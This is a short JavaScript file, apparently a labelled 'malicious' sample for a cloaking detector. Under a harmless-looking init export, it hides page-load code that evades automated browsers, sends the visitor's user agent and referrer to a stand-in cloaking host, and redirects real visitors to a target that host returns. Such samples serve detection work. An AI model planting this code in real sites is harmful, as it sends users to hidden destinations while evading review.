// expect: malicious
// source: Adspect-style cloakers (2024-2025): a fingerprint goes to the cloaking service and a 'real
// visitor' is sent to the target it returns; automated browsers stay on the white page.
module.exports = function init() { return true; };
if (typeof window !== 'undefined' && !navigator.webdriver && !window.callPhantom) {
  fetch('https://cloak.signals.example/v', { method: 'POST', body: JSON.stringify({ ua: navigator.userAgent, ref: document.referrer }) })
    .then((r) => r.json())
    .then((v) => { if (v.ok) window.location.href = v.target; });
}
